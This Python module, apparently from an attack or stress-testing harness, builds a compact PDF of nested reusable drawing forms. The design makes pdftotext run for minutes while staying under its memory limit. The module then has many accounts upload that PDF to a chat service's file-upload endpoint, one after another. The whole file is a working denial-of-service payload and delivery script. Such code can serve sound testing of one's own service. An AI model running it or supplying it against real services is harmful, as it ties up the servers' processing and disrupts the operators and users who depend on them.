# PDF documents that take long to read, and the attack with them.
import random, zlib
from wire import form

# The number of forms; how often the page and each form draw the next form; and how often the innermost form, which is drawn 100,000 times,
# moves the origin.
FORMS, DRAWN, MOVES = 5, 10, 16_000


def paper():
    """A PDF of 66 KB with forms (reusable drawings), which takes pdftotext minutes. The innermost form only moves the origin. If it drew a
    text so often, pdftotext would soon exceed the memory that it may have, and end."""
    moves = b"".join(b"q 1 0 0 1 %d %d cm Q " % (random.randrange(1_000), random.randrange(1_000)) for _ in range(MOVES))
    kind = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
    # Of a page or a form that draws the form with this number.
    drawing = lambda number: b"/Resources<</XObject<</X %d 0 R>>>>" % number

    def stream(number, facts, content):
        packed = zlib.compress(content, 9)
        head = b"%d 0 obj<<%s/Length %d/Filter/FlateDecode>>stream\n" % (number, facts, len(packed))
        return head + packed + b"\nendstream endobj\n"

    pieces = [
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n",
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R%s>>endobj\n" % drawing(5),
        stream(4, b"", b"/X Do " * DRAWN),
    ]
    pieces += [stream(5 + number, kind + drawing(6 + number), b"/X Do " * DRAWN) for number in range(FORMS - 1)]
    return b"".join(pieces) + stream(4 + FORMS, kind, moves) + b"trailer<</Root 1 0 R>>\n%%EOF\n"


def uploads(attack):
    """Each account uploads such documents for a chat, one after the other."""
    content = paper()
    last = {}

    def upload(client, number):
        person = attack.accounts[number]
        files = [("file", "a.pdf", "application/pdf", content)]
        status, answer = client.post_form("/api/chat/files/upload", person["token"], {}, files)
        if status == 200:
            attack.count("with text" if answer.get("text") else "without text")
            # A job reads the document after the response. If no document were deleted, jobs would read them for minutes after the attack.
            before, last[number] = last.get(number), answer["file_id"]
            if before:
                client.request("DELETE", f"/api/chat/files/{before}", person["token"])
        return status

    attack.each(len(attack.accounts), upload)
